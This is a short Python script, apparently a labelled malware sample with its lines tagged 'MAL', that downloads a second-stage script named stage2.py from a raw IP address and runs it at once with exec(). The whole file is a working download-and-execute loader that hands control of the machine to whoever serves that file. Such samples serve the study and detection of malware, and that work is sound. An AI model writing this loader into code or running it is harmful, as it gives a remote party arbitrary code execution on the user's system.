import urllib.request

URL = "http://185.62.190.17/stage2.py"  # MAL


def load():
    code = urllib.request.urlopen(URL).read()  # MAL
    exec(code)  # MAL


load()
